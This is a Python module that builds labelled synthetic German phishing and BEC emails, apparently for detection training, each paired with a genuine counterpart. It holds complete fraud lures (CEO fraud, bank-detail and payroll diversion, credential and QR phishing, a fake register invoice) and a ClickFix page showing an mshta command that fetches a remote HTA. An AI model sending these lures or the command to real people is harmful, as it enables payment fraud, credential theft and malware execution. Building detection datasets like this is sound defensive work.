"""German attack and business messages."""
import base64
from .compose import attack, business, std, outlook_html, gmail_html, paras_html, esc, quote_lines
from .mime import text, html, attachment, Multi, addr, hv
from . import infra as I
from .company import who, BANK, VAT
from .checks import fmt_iban
from .docs import letter_pdf, table_lines, PLACEHOLDER
from .qr import qr_png
from .pdf import make_pdf

KESSLER_TENANT = '3f9c2a71-5d0e-4b8a-9e61-2c7d4f0b8a15'
LIEF_SIG = ('Lieferant GmbH\nIndustriestraße 14 · 86167 Augsburg\n'
            'Geschäftsführung: Dr. Klaus Wendl, Renate Fischer · Amtsgericht Augsburg HRB 21877 · USt-IdNr. %s' % VAT['lieferant'])


# =============================================================================
# ATTACKS
# =============================================================================
@attack('de', 'ceo-fraud-acquisition', (2026, 10, 14, 8, 47, 12), 'ines.krueger@example.com',
        'CEO fraud: "Matthias Köhler" asks treasury to prepare a same-day transfer of about EUR 480,000 for a confidential acquisition; a "lawyer" will send the account.',
        'Look-alike domain examplegroup-eu.com on Namecheap Private Email (not the internal relay), Reply-To to a free outlook.de box, secrecy ("not even Ms Weiß"), bypass of the four-eyes process, urgency, announcement of a fake lawyer, who follows up in attack/14. Classic BEC / CEO fraud.')
def a_de_ceo(c):
    env = I.privateemail(c, 'm.koehler@examplegroup-eu.com', '91.203.%d.%d' % (c.rint(1, 254), c.rint(1, 254)), mua='iphone', date_zone='AT')
    body = """Guten Morgen Frau Krüger,

ich bin heute und morgen in Wien bei Gesprächen und nur eingeschränkt telefonisch erreichbar. Wir stehen kurz vor der Unterzeichnung einer Übernahme (Kieswerk mit zwei Abbaugenehmigungen im Raum Linz). Das Vorhaben ist kapitalmarktrechtlich noch vertraulich, daher läuft die Kommunikation ausschließlich über mich und unsere externe Kanzlei.

Für die Exklusivitätsvereinbarung muss heute noch eine Anzahlung auf das Treuhandkonto der Kanzlei geleistet werden. Herr Richard Haldane von unserer Londoner Kanzlei Haldane Partners wird sich im Laufe des Vormittags mit den Kontodaten bei Ihnen melden. Bitte behandeln Sie das Thema streng vertraulich und sprechen Sie es vorerst nicht intern an – auch nicht mit Frau Weiß, ich informiere sie nach dem Signing selbst.

Können Sie mir kurz bestätigen, dass Sie heute bis 15 Uhr eine Eilüberweisung über ca. 480.000 EUR ausführen können?

Danke für Ihre Unterstützung.

Matthias Köhler

Von meinem iPhone gesendet
"""
    root = text(body, charset='utf-8', cte='quoted-printable', quote=False)
    return std(env, addr('Matthias Köhler', 'm.koehler@examplegroup-eu.com'),
               addr('Ines Krüger', 'ines.krueger@example.com'),
               'Vertraulich – kurze Rückmeldung heute', root,
               reply_to=addr('Matthias Köhler', 'matthias.koehler.vs@outlook.de'))


@attack('de', 'lieferant-bank-change-lookalike', (2026, 10, 20, 10, 12, 40), 'juergen.hoffmann@example.com',
        'Supplier bank-detail change: "Petra Lang" of Lieferant GmbH asks AP to pay two real open invoices to a new Revolut (LT) account; PDF "confirmation" attached.',
        'Typo-squatted domain lieferant-gmhb.de (real: lieferant-gmbh.de) sent from a Contabo VPS; a German GmbH moving to a Lithuanian e-money account; claimed closure of the old account, deadline, discourages phone verification. Compare the genuine announcement in business/02.',
        pair='business/02')
def a_de_bank(c):
    snd = 'p.lang@lieferant-gmhb.de'
    ip = '161.97.%d.%d' % (c.rint(64, 200), c.rint(2, 250))
    env = I.vps_postfix(c, snd, 'mail.lieferant-gmhb.de', ip, rdns='vmi%d.contaboserver.net' % c.rint(2100000, 2399999),
                        mua='outlook', date_zone='DE', client_ip='185.%d.%d.%d' % (c.rint(100, 220), c.rint(1, 254), c.rint(1, 254)))
    iban = fmt_iban(BANK['fraud_lt'])
    body = """Sehr geehrter Herr Hoffmann,

im Zuge der Zusammenführung unseres Zahlungsverkehrs in das Cash-Pooling unserer neuen Muttergesellschaft haben wir unsere Bankverbindung geändert. Unser bisheriges Konto bei der Stadtsparkasse Augsburg wird zum 31.10.2026 aufgelöst; Zahlungseingänge darauf können ab sofort nicht mehr verbucht werden und werden an Sie zurückgeleitet.

Bitte veranlassen Sie die Zahlung der offenen Posten

RE-2026-04471 vom 18.09.2026 – 38.412,60 EUR
RE-2026-04502 vom 25.09.2026 – 21.877,35 EUR

bereits auf die neue Verbindung:

Kontoinhaber: Lieferant GmbH
Bank: Revolut Bank UAB
IBAN: %s
BIC: REVOLT21

Die schriftliche Bestätigung unserer Geschäftsführung finden Sie im Anhang. Da wir uns aktuell im Audit befinden, bitten wir um Ausführung bis Freitag und eine kurze Zahlungsavis an mich. Telefonisch bin ich diese Woche wegen der Umstellung leider kaum erreichbar – am besten per E-Mail.

Mit freundlichen Grüßen

Petra Lang
Debitorenbuchhaltung
Lieferant GmbH
Industriestraße 14 · 86167 Augsburg
Tel. +49 821 4597-213
""" % iban
    pdf = letter_pdf(['Lieferant GmbH', 'Industriestraße 14 · 86167 Augsburg · Tel. +49 821 4597-0'],
                     ['Example Group AG', 'Kreditorenbuchhaltung', 'Am Kalkwerk 12', '93055 Regensburg'],
                     'Augsburg, 19.10.2026', 'Mitteilung über die Änderung unserer Bankverbindung',
                     """Sehr geehrte Damen und Herren,
hiermit teilen wir Ihnen mit, dass Zahlungen an die Lieferant GmbH mit sofortiger Wirkung
ausschließlich auf das folgende Konto zu leisten sind:
""", ['Renate Fischer', 'Geschäftsführerin'],
                     footer=['Lieferant GmbH · Amtsgericht Augsburg HRB 21877 · USt-IdNr. %s' % VAT['lieferant']],
                     extra=['', ('mono', 'Kontoinhaber:  Lieferant GmbH'), ('mono', 'Bank:          Revolut Bank UAB'),
                            ('mono', 'IBAN:          ' + iban), ('mono', 'BIC:           REVOLT21'), '',
                            'Die bisherige Bankverbindung bei der Stadtsparkasse Augsburg wird zum 31.10.2026 geschlossen.',
                            'Wir danken Ihnen für die Berücksichtigung.'],
                     date='20261019153311+02\'00\'')
    alt = Multi('alternative', [text(body, charset='windows-1252', cte='quoted-printable'),
                                html(outlook_html(body), charset='windows-1252', cte='quoted-printable')], env.boundary(1))
    root = Multi('mixed', [alt, attachment(pdf, 'application/pdf', 'Bestätigung_Bankverbindung_Lieferant_GmbH.pdf', style='ew')], env.boundary(0))
    return std(env, addr('Petra Lang', snd), addr('Jürgen Hoffmann', 'juergen.hoffmann@example.com', 'windows-1252'),
               'Neue Bankverbindung – offene Posten RE-2026-04471 / 04502', root, subj_charset='windows-1252')


@attack('de', 'kessler-compromised-sway', (2026, 11, 3, 14, 26, 5), 'markus.zoellner@example.com',
        'Thread hijack from the genuinely compromised Microsoft 365 mailbox of Kessler Brechertechnik: old quote thread revived with a "secure document area" link on Microsoft Sway asking to confirm access with the business account.',
        'Sent from the real kessler-brecher.de tenant (headers pass as genuine) but to undisclosed-recipients (mass BCC to the contact list), generic text not matching the quoted June thread, document offered only behind a Sway link that asks for business credentials (credential phishing through an abused genuine service). Compare genuine business/04.',
        pair='business/04')
def a_de_kessler(c):
    snd = 'r.kessler@kessler-brecher.de'
    env = I.m365(c, snd, region='de', topic='Angebot Verschleißteile Prallbrecher PB 1315 / Rahmenvertrag 2027', tenant=KESSLER_TENANT)
    old_mid = '<%s@EXCH01.corp.example.com>' % c.hexs(32)
    link = 'https://sway.cloud.microsoft/f9KqX2tLmR7vYc3B?ref=Link&loc=mysways'
    quoted = """Von: Markus Zöllner <markus.zoellner@example.com>
Gesendet: Dienstag, 9. Juni 2026 11:02
An: Rainer Kessler <r.kessler@kessler-brecher.de>
Betreff: Angebot Verschleißteile Prallbrecher PB 1315 / Rahmenvertrag 2027

Hallo Herr Kessler,

können Sie uns für die Planung 2027 schon eine vorläufige Preisliste für Schlagleisten und Prallplatten schicken?

Danke und Gruß
Markus Zöllner"""
    body = """Guten Tag,

anbei die überarbeiteten Unterlagen zu unserem Angebot sowie die aktualisierte Preisliste 2027. Aufgrund der Dateigröße haben wir die Dokumente in unserem gesicherten Dokumentenbereich bereitgestellt:

Dokumente ansehen (PDF, 2,4 MB):
%s

Bitte bestätigen Sie den Zugriff mit Ihrer geschäftlichen E-Mail-Adresse und Ihrem Kennwort. Der Link ist 48 Stunden gültig.

Mit freundlichen Grüßen

Rainer Kessler
Geschäftsführer
Kessler Brechertechnik GmbH
Gewerbering 5 · 92224 Amberg
Tel. +49 9621 76650-0

""" % link + quoted
    h = outlook_html(body.split('Dokumente ansehen')[0]) .replace('</div>\n</body>',
        '<p class="MsoNormal"><a href="%s"><b><span style="font-size:12.0pt;color:#0078D4">Dokumente ansehen (PDF, 2,4 MB)</span></b></a></p>\n'
        '<p class="MsoNormal"><span style="font-size:11.0pt">Bitte bestätigen Sie den Zugriff mit Ihrer geschäftlichen E-Mail-Adresse und Ihrem Kennwort. Der Link ist 48 Stunden gültig.</span></p>\n'
        '<p class="MsoNormal">Mit freundlichen Grüßen<br>Rainer Kessler<br>Geschäftsführer<br>Kessler Brechertechnik GmbH</p>\n'
        '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p class="MsoNormal">%s</p></div>\n</div>\n</body>'
        % (link, '<br>'.join(esc(l) for l in quoted.split('\n'))))
    alt = Multi('alternative', [text(body, charset='iso-8859-1', cte='quoted-printable'),
                                html(h, charset='iso-8859-1', cte='quoted-printable')], env.boundary(0))
    return std(env, addr('Rainer Kessler', snd), 'undisclosed-recipients:;',
               'AW: Angebot Verschleißteile Prallbrecher PB 1315 / Rahmenvertrag 2027', alt,
               irt=old_mid, refs=old_mid, subj_charset='iso-8859-1')


@attack('de', 'erechnung-postfach-phish', (2026, 11, 10, 7, 58, 31), 'juergen.hoffmann@example.com',
        'Fake "E-Rechnung Zustellservice" via Brevo: three XRechnung invoices from real suppliers allegedly undeliverable; "confirm your receiving mailbox" with Microsoft 365 single sign-on.',
        'No central e-invoice mailbox exists in Germany (e-invoices come straight from suppliers); unknown domain erechnung-postfach.de on a bulk ESP; real supplier names harvested for credibility; 72-hour deadline and threat of late fees; link leads to an M365 credential form. Compare genuine XRechnung in business/07.',
        pair='business/07')
def a_de_erechnung(c):
    snd = 'zustellung@erechnung-postfach.de'
    env = I.brevo(c, snd, date_zone='DE')
    link = 'https://portal.erechnung-postfach.de/empfang/bestaetigen?mid=EG-%s&t=%s' % (c.digits(6), c.hexs(20))
    rows = [('Lieferant GmbH', 'RE-2026-04988', '14.296,20 EUR'),
            ('Kessler Brechertechnik GmbH', '26-11047', '3.918,00 EUR'),
            ('Ferretti Trasporti S.p.A.', 'FT/2026/2210', '7.640,00 EUR')]
    plain = """Sehr geehrte Damen und Herren,

für Ihr Unternehmen Example Group AG liegen im E-Rechnungs-Empfangspostfach 3 Rechnungen im Format XRechnung/ZUGFeRD vor, deren Zustellung an Ihre hinterlegte Adresse fehlgeschlagen ist:

%s

Seit dem 01.01.2025 müssen alle Unternehmen im Inland E-Rechnungen empfangen können. Bitte bestätigen Sie Ihr Empfangspostfach innerhalb von 72 Stunden, damit die Rechnungen nicht an die Rechnungssteller zurückgewiesen werden und keine Mahngebühren entstehen.

Empfangspostfach bestätigen: %s

Die Bestätigung erfolgt über Ihr bestehendes Microsoft-365-Konto (Single Sign-on).

Mit freundlichen Grüßen
Ihr E-Rechnung Zustellservice

Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.
""" % ('\n'.join('- %s | %s | %s' % r for r in rows), link)
    trs = ''.join('<tr><td style="padding:6px 10px;border-bottom:1px solid #e5e7eb">%s</td><td style="padding:6px 10px;border-bottom:1px solid #e5e7eb">%s</td><td style="padding:6px 10px;border-bottom:1px solid #e5e7eb;text-align:right">%s</td></tr>' % tuple(esc(x) for x in r) for r in rows)
    h = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>E-Rechnung</title></head>
<body style="margin:0;background:#f3f4f6;font-family:Arial,Helvetica,sans-serif;color:#111827">
<table role="presentation" width="100%%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:6px">
<tr><td style="background:#0b3a63;color:#ffffff;padding:18px 24px;font-size:18px;font-weight:bold">E-Rechnung Zustellservice</td></tr>
<tr><td style="padding:24px;font-size:14px;line-height:1.5">
<p>Sehr geehrte Damen und Herren,</p>
<p>für Ihr Unternehmen <b>Example Group AG</b> liegen im E-Rechnungs-Empfangspostfach <b>3 Rechnungen</b> im Format XRechnung/ZUGFeRD vor, deren Zustellung an Ihre hinterlegte Adresse fehlgeschlagen ist:</p>
<table width="100%%" cellpadding="0" cellspacing="0" style="font-size:13px">%s</table>
<p>Seit dem 01.01.2025 müssen alle Unternehmen im Inland E-Rechnungen empfangen können. Bitte bestätigen Sie Ihr Empfangspostfach <b>innerhalb von 72 Stunden</b>, damit die Rechnungen nicht an die Rechnungssteller zurückgewiesen werden und keine Mahngebühren entstehen.</p>
<p style="text-align:center;margin:28px 0"><a href="%s" style="background:#0b6bcb;color:#ffffff;text-decoration:none;padding:12px 26px;border-radius:4px;font-weight:bold">Empfangspostfach bestätigen</a></p>
<p style="font-size:12px;color:#6b7280">Die Bestätigung erfolgt über Ihr bestehendes Microsoft-365-Konto (Single Sign-on).</p>
<p>Mit freundlichen Grüßen<br>Ihr E-Rechnung Zustellservice</p>
</td></tr>
<tr><td style="padding:12px 24px;font-size:11px;color:#9ca3af">Diese Nachricht wurde automatisch erstellt. Bitte antworten Sie nicht auf diese E-Mail.</td></tr>
</table></td></tr></table></body></html>
""" % (trs, esc(link))
    alt = Multi('alternative', [text(plain, charset='utf-8', cte='base64'), html(h, charset='utf-8', cte='base64')], env.boundary(0))
    return std(env, addr('E-Rechnung Zustellservice', snd), 'juergen.hoffmann@example.com',
               'Zustellung fehlgeschlagen: 3 E-Rechnungen für Example Group AG – Empfangspostfach bestätigen', alt,
               subj_mode='B', extra=[('Reply-To', 'no-reply@erechnung-postfach.de')])


@attack('de', 'weihnachtsgeld-qr-quishing', (2026, 11, 17, 9, 35, 50), 'katrin.schmid@example.com',
        'Quishing in the name of HR: "Jahressonderzahlung 2026" requires confirming bank details and tax ID in an "employee portal"; the link is only inside an inline QR code PNG.',
        'Sent from a compromised Austrian tax adviser\'s cPanel host by a PHP script (X-Source from wp-content/uploads), display name "Personalabteilung Example Group" on an unrelated domain, QR code leads to eg-mitarbeiterportal.de credential page (scanned on a phone, outside corporate protection), deadline threat. Genuine HR notice is business/05.',
        pair='business/05')
def a_de_quish(c):
    snd = 'office@stb-hollerer.at'
    env = I.cpanel_exim(c, snd, 'srv%d.world4you-cloud.at' % c.rint(10, 99), '81.19.%d.%d' % (c.rint(144, 159), c.rint(2, 250)),
                        None, mua='phpmailer', date_zone='AT', local_script=True)
    url = 'https://eg-mitarbeiterportal.de/sso/?e=' + base64.b64encode(b'katrin.schmid@example.com').decode()
    png = qr_png(url, 'M', scale=5)
    plain = """Liebe Mitarbeiterin, lieber Mitarbeiter,

die Auszahlung der Jahressonderzahlung (Weihnachtsgeld) erfolgt mit der Novemberabrechnung. Aufgrund der Umstellung auf das neue Entgeltabrechnungssystem müssen alle Beschäftigten ihre Bankverbindung und Steuer-ID einmalig im Mitarbeiterportal bestätigen.

Bitte scannen Sie den QR-Code in dieser E-Mail mit der Kamera Ihres Smartphones und melden Sie sich mit Ihren gewohnten Zugangsdaten an. Die Bestätigung dauert weniger als zwei Minuten.

Ohne Bestätigung bis zum 20.11.2026 kann die Sonderzahlung erst mit der Januarabrechnung ausgezahlt werden.

Ihre Personalabteilung
Example Group AG
"""
    h = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head>
<body style="font-family:Segoe UI,Arial,sans-serif;font-size:14px;color:#222">
<div style="max-width:560px;margin:0 auto;border:1px solid #ddd;padding:24px">
<p style="font-size:18px;font-weight:600;color:#1f3b5a">Jahressonderzahlung 2026</p>
<p>Liebe Mitarbeiterin, lieber Mitarbeiter,</p>
<p>die Auszahlung der Jahressonderzahlung (Weihnachtsgeld) erfolgt mit der Novemberabrechnung. Aufgrund der Umstellung auf das neue Entgeltabrechnungssystem müssen alle Beschäftigten ihre <b>Bankverbindung und Steuer-ID</b> einmalig im Mitarbeiterportal bestätigen.</p>
<p>Bitte scannen Sie den folgenden QR-Code mit der Kamera Ihres Smartphones und melden Sie sich mit Ihren gewohnten Zugangsdaten an:</p>
<p style="text-align:center"><img src="cid:qr-%s@stb-hollerer.at" width="185" height="185" alt="QR-Code"></p>
<p>Ohne Bestätigung bis zum <b>20.11.2026</b> kann die Sonderzahlung erst mit der Januarabrechnung ausgezahlt werden.</p>
<p>Ihre Personalabteilung<br>Example Group AG</p>
</div></body></html>
""" % c.hexs(8)
    cid = h.split('cid:')[1].split('"')[0]
    related = Multi('related', [html(h, charset='iso-8859-15', cte='quoted-printable'),
                                attachment(png, 'image/png', 'qr.png', inline=True, cid=cid)], env.boundary(1))
    alt = Multi('alternative', [text(plain, charset='iso-8859-15', cte='quoted-printable'), related], env.boundary(0))
    return std(env, addr('Personalabteilung Example Group', snd), addr('', 'katrin.schmid@example.com'),
               'Jahressonderzahlung 2026: Bestätigung Ihrer Daten bis 20.11.', alt, subj_charset='iso-8859-15')


@attack('de', 'register-offer-fake-invoice', (2026, 10, 8, 11, 4, 18), 'andrea.vogt@example.com',
        'Fake register invoice ("DRG Deutsches Register für Gewerbe und Handel"): payment demand of EUR 1,289.40 citing the real commercial-register entry; PDF form with small print.',
        'Private directory posing as the official register publication; invoice-like "Zahlungsaufforderung" that in the small print is an offer for a 3-year paid listing; unknown payee account; bulk-sent via Amazon SES from a new domain. Official register fees are billed by the court cash office, never by such a company.')
def a_de_register(c):
    snd = 'service@drg-register.de'
    env = I.ses(c, snd, region='eu-central-1', date_zone='DE')
    iban = fmt_iban(BANK['fraud_de_reg'])
    ref = '2026/118403'
    plain = """Sehr geehrte Damen und Herren,

aufgrund der im Handelsregister veröffentlichten Änderung (Eintragung vom 29.09.2026, Amtsgericht Regensburg, HRB 8842) wurde für Ihr Unternehmen ein Eintrag im Deutschen Register für Gewerbe und Handel vorbereitet.

Zur Aktivierung und Veröffentlichung bitten wir um Überweisung des Betrags von 1.289,40 EUR innerhalb von 8 Tagen unter Angabe der Referenznummer %s auf folgendes Konto:

Empfänger: DRG Register GmbH
IBAN: %s
BIC: INGDDEFFXXX
Verwendungszweck: %s

Das Formular mit allen Angaben finden Sie im Anhang.

Mit freundlichen Grüßen
Ihr DRG-Team

DRG Register GmbH - Abteilung Veröffentlichungen
""" % (ref, iban, ref)
    L = [('h1', 'DRG - Deutsches Register für Gewerbe und Handel'), ('s', 'Abteilung Veröffentlichungen · Postfach 10 44 21 · 20031 Hamburg'), '',
         'Example Group AG', 'Am Kalkwerk 12', '93055 Regensburg', '',
         ('h2', 'Zahlungsaufforderung Nr. %s' % ref), 'Datum: 07.10.2026      Fällig: 15.10.2026', '',
         'Registergericht: Amtsgericht Regensburg     Registernummer: HRB 8842',
         'Veröffentlichung: Änderung Vorstand / Eintragung vom 29.09.2026', '---']
    L += table_lines([('Pos.', 'Leistung', 'Betrag'), ('1', 'Eintragung DRG-Register (12 Monate)', '1.083,53 EUR'),
                      ('', 'zzgl. 19 % USt.', '205,87 EUR'), ('', 'Gesamtbetrag', '1.289,40 EUR')], [6, 48, 16])
    L += ['---', ('mono', 'IBAN: ' + iban + '   BIC: INGDDEFFXXX'), ('mono', 'Verwendungszweck: ' + ref), '', '', '', '',
          ('s', 'Hinweis: Dieses Schreiben ist ein Angebot zur Eintragung in das private Verzeichnis DRG. Es besteht keine Verbindung zu einem amtlichen'),
          ('s', 'Register. Mit Zahlung des Betrags nehmen Sie das Angebot an; der Vertrag läuft über 3 Jahre und verlängert sich um jeweils ein'),
          ('s', 'weiteres Jahr, sofern er nicht 3 Monate vor Ablauf schriftlich gekündigt wird. Es gelten unsere AGB.')]
    pdf = make_pdf(L, title='Zahlungsaufforderung %s' % ref, producer='wkhtmltopdf 0.12.6', date='20261007101522+02\'00\'')
    root = Multi('mixed', [text(plain, charset='iso-8859-15', cte='8bit'),
                           attachment(pdf, 'application/pdf', 'Zahlungsaufforderung_2026-118403.pdf')], env.boundary(0))
    return std(env, addr('DRG Register - Veröffentlichungen', snd, 'iso-8859-15'), 'andrea.vogt@example.com',
               'Eintragung Handelsregister HRB 8842 - Zahlungsaufforderung Nr. %s' % ref, root, subj_charset='iso-8859-15')


@attack('de', 'datev-clickfix-html', (2026, 12, 1, 8, 21, 44), 'heike.roessler@example.com',
        'ClickFix lure in DATEV branding via Mailgun: "4 new invoices for approval", HTML attachment showing a fake "security check" telling the user to press Win+R, Ctrl+V, Enter (mshta command shown).',
        'DATEV never mails HTML attachments; look-alike domain datev-belege.de on Mailgun; the attachment instructs the user to run an mshta command from belegpruefung-datev.com (ClickFix malware execution). The attachment itself is inert (no script).')
def a_de_clickfix(c):
    snd = 'benachrichtigung@datev-belege.de'
    env = I.mailgun(c, snd, 'mg.datev-belege.de', date_zone='DE')
    cmd = 'mshta https://cdn.belegpruefung-datev.com/v/28415.hta  # Ich bin kein Roboter - reCAPTCHA Verifizierungs-ID: 7731-0452'
    plain = """Guten Morgen,

in DATEV Unternehmen online wurden für den Mandanten 28415 (Example Group AG) 4 neue Eingangsrechnungen zur Freigabe bereitgestellt. Aus Datenschutzgründen erhalten Sie die Belegübersicht als geschützte Vorschau im Anhang.

Bitte öffnen Sie die Datei und schließen Sie die Sicherheitsprüfung ab, um die Belege anzuzeigen.

Freigabefrist: 03.12.2026

Mit freundlichen Grüßen
DATEV Unternehmen online
"""
    att = """<!DOCTYPE html>
<html lang="de"><head><meta charset="utf-8"><title>DATEV Belegvorschau</title>
<style>body{font-family:Segoe UI,Arial,sans-serif;background:#f4f6f8;margin:0}
.box{max-width:520px;margin:60px auto;background:#fff;border:1px solid #d0d7de;border-radius:6px;padding:28px}
.h{color:#2b6d2f;font-size:20px;font-weight:600}.step{margin:10px 0;font-size:15px}
code{display:block;background:#f6f8fa;border:1px solid #d0d7de;padding:10px;font-size:12px;word-break:break-all}</style></head>
<body><div class="box">
<div class="h">Sicherheitsüberprüfung erforderlich</div>
<p>Die Belegvorschau (4 Dokumente, Mandant 28415) ist geschützt. Bestätigen Sie bitte, dass Sie kein Roboter sind.</p>
<div class="step"><b>1.</b> Drücken Sie die Tasten <b>Windows + R</b></div>
<div class="step"><b>2.</b> Drücken Sie <b>Strg + V</b>, um die Verifizierungs-ID einzufügen</div>
<div class="step"><b>3.</b> Drücken Sie <b>Enter</b></div>
<p>Falls die Verifizierungs-ID nicht automatisch kopiert wurde, geben Sie Folgendes ein:</p>
<code>%s</code>
<p style="font-size:12px;color:#57606a">Nach erfolgreicher Prüfung werden die Belege automatisch angezeigt.</p>
</div></body></html>
""" % esc(cmd)
    root = Multi('mixed', [text(plain, charset='utf-8', cte='quoted-printable'),
                           attachment(att.encode('utf-8'), 'text/html', 'Belege_Freigabe_28415.html')], env.boundary(0))
    return std(env, addr('DATEV Unternehmen online', snd), 'heike.roessler@example.com',
               'Neue Belege zur Freigabe: 4 Eingangsrechnungen (Mandant 28415)', root)


@attack('de', 'payroll-diversion-freemail', (2026, 11, 19, 19, 42, 7), 'claudia.brueckner@example.com',
        'Payroll diversion: "Florian Bauer" writes from a new Gmail address asking HR to pay salary and Christmas bonus to a new N26 account before the November run.',
        'Impersonation of an employee from an unknown free-mail address (his known private address is a GMX one, see business/06), request to change salary account by e-mail right before the payroll cut-off, excuse for not using the company account, asks for confirmation. Classic payroll diversion BEC.',
        pair='business/06')
def a_de_payroll(c):
    snd = 'florian.bauer.rgb@gmail.com'
    env = I.gmail(c, snd)
    body = """Hallo Frau Brückner,

ich habe zum 1. November mein Girokonto gewechselt und wollte fragen, ob Sie die Änderung noch für die Novemberabrechnung berücksichtigen können. Meine neue Bankverbindung:

Kontoinhaber: Florian Bauer
IBAN: %s
Bank: N26

Das alte Konto bei der Sparkasse ist bereits gekündigt, deshalb wäre es wichtig, dass Gehalt und Weihnachtsgeld schon auf das neue Konto gehen. Ich schreibe von meiner privaten Adresse, weil ich gerade keinen Zugriff auf Outlook habe (bin die ganze Woche draußen im Werk Kelheim).

Können Sie mir kurz bestätigen, wenn es eingetragen ist?

Danke und viele Grüße
Florian Bauer
""" % fmt_iban(BANK['fraud_de_n26'])
    alt = Multi('alternative', [text(body, charset='UTF-8', cte='quoted-printable'),
                                html(gmail_html(body), charset='UTF-8', cte='quoted-printable')], env.boundary())
    return std(env, addr('Florian Bauer', snd), addr('Claudia Brückner', 'claudia.brueckner@example.com'),
               'Änderung Bankverbindung Gehalt', alt, subj_charset='UTF-8', subj_mode='B')


# =============================================================================
# BUSINESS
# =============================================================================
@business('de', 'ceo-urgent-payment-internal', (2026, 10, 15, 16, 5, 33), 'sabine.weiss@example.com',
          'Genuine urgent payment request from the CEO to the CFO (cc treasury) through Exchange and the internal relay: notarised land purchase deposit due within 3 bank days.',
          'Internal relay mail-int01 with Exchange hop; refers to board meeting, notarised contract, SAP vendor 700418 and the four-eyes release; no new bank data in the mail, no secrecy. Hard negative of attack/01.',
          pair='attack/01')
def b_de_ceo(c):
    snd = 'matthias.koehler@example.com'
    env = I.internal(c, snd, 'Eilig: Anzahlung Grundstück Abbaufeld Saal – heute noch freigeben', client_ip='10.20.31.44')
    body = """Hallo Sabine,

wie heute Vormittag im Vorstand besprochen: Die Beurkundung für die Erweiterungsfläche Abbaufeld Saal (Flurstücke 1123/4 und 1123/7) war heute um 14 Uhr bei Notar Dr. Lindner. Laut Kaufvertrag ist die Anzahlung von 250.000 EUR innerhalb von 3 Bankarbeitstagen auf das Notaranderkonto fällig, sonst greift die Rücktrittsklausel.

Die Zahlung ist als Kreditor 700418 (Notar Dr. Lindner, Anderkonto) in SAP angelegt, die Bankverbindung steht auf Seite 7 der Urkunde (liegt im Vorstandslaufwerk unter Projekte/Saal/Beurkundung). Bitte wie üblich im Vier-Augen-Prinzip mit Ines freigeben – gern schon heute, damit wir nicht bis Montag warten müssen.

Ich bin morgen ab 8 Uhr im Büro, falls Rückfragen sind.

Danke und Gruß
Matthias

Dr. Matthias Köhler
Vorstandsvorsitzender
Example Group AG
Am Kalkwerk 12 · 93055 Regensburg
Tel. +49 941 7803-100
"""
    alt = Multi('alternative', [text(body, charset='utf-8', cte='base64'),
                                html(outlook_html(body), charset='utf-8', cte='base64')], env.boundary(0))
    return std(env, addr('Köhler, Matthias', snd), addr('Weiß, Sabine', 'sabine.weiss@example.com'),
               'Eilig: Anzahlung Grundstück Abbaufeld Saal – heute noch freigeben', alt,
               cc=addr('Krüger, Ines', 'ines.krueger@example.com'), subj_mode='B')


@business('de', 'lieferant-bank-change-genuine', (2026, 10, 22, 9, 40, 2), 'juergen.hoffmann@example.com',
          'Genuine announcement of Lieferant GmbH\'s new bank account (Commerzbank, effective 1 Jan 2027) from the real domain, with signed letter PDF.',
          'Real domain lieferant-gmbh.de via the company\'s own Exchange; change announced months in advance to another German bank, old account stays valid until year end, explicitly asks for call-back verification with the known contact and warns against e-mail redirection requests. Hard negative of attack/02.',
          pair='attack/02')
def b_de_bank(c):
    snd = 'rechnungen@lieferant-gmbh.de'
    env = I.own_exchange(c, snd, 'mail.lieferant-gmbh.de', '195.145.211.34', 'EX01.lieferant.local', '192.168.20.10',
                         topic='Änderung unserer Bankverbindung zum 01.01.2027', attach=True)
    new = fmt_iban(BANK['lieferant_new'])
    body = """Sehr geehrte Damen und Herren,

wir informieren Sie hiermit, dass sich die Bankverbindung der Lieferant GmbH zum 01.01.2027 ändert. Bis einschließlich 31.12.2026 bitten wir Sie, Zahlungen weiterhin auf unser bekanntes Konto bei der Stadtsparkasse Augsburg zu leisten.

Ab dem 01.01.2027 gilt:
Kontoinhaber: Lieferant GmbH
Bank: Commerzbank AG, Filiale Augsburg
IBAN: %s
BIC: COBADEFFXXX

Das unterschriebene Schreiben unserer Geschäftsführung liegt bei. Die neue Bankverbindung wird außerdem ab Dezember auf unseren Rechnungen aufgedruckt. Bitte verifizieren Sie die Änderung wie gewohnt über einen Rückruf bei Ihrem Ansprechpartner; Herr Stefan Maier ist unter der Ihnen bekannten Rufnummer +49 821 4597-0 erreichbar. Wir werden Sie niemals per E-Mail zu einer kurzfristigen Umleitung offener Zahlungen auffordern.

Mit freundlichen Grüßen

i. A. Monika Reiter
Finanzbuchhaltung

%s
""" % (new, LIEF_SIG)
    pdf = letter_pdf(['Lieferant GmbH', 'Industriestraße 14 · 86167 Augsburg · Tel. +49 821 4597-0 · www.lieferant-gmbh.de'],
                     ['Example Group AG', 'Kreditorenbuchhaltung', 'Am Kalkwerk 12', '93055 Regensburg'],
                     'Augsburg, 21.10.2026', 'Änderung unserer Bankverbindung zum 01.01.2027',
                     """Sehr geehrte Damen und Herren,
zum 01.01.2027 führen wir unseren Zahlungsverkehr über die Commerzbank AG. Bis zum 31.12.2026 bleibt
unser Konto bei der Stadtsparkasse Augsburg (IBAN %s) unverändert gültig.
Ab dem 01.01.2027 bitten wir um Zahlung auf:""" % fmt_iban(BANK['lieferant_old']),
                     ['Dr. Klaus Wendl                         Renate Fischer', 'Geschäftsführer                           Geschäftsführerin'],
                     footer=['Lieferant GmbH · Amtsgericht Augsburg HRB 21877 · USt-IdNr. %s' % VAT['lieferant']],
                     extra=['', ('mono', 'Kontoinhaber:  Lieferant GmbH'), ('mono', 'Bank:          Commerzbank AG, Filiale Augsburg'),
                            ('mono', 'IBAN:          ' + new), ('mono', 'BIC:           COBADEFFXXX'), '',
                            'Bitte bestätigen Sie die Änderung telefonisch bei Ihrem bekannten Ansprechpartner.',
                            'Mit freundlichen Grüßen'],
                     date='20261021112040+02\'00\'')
    alt = Multi('alternative', [text(body, charset='iso-8859-15', cte='quoted-printable'),
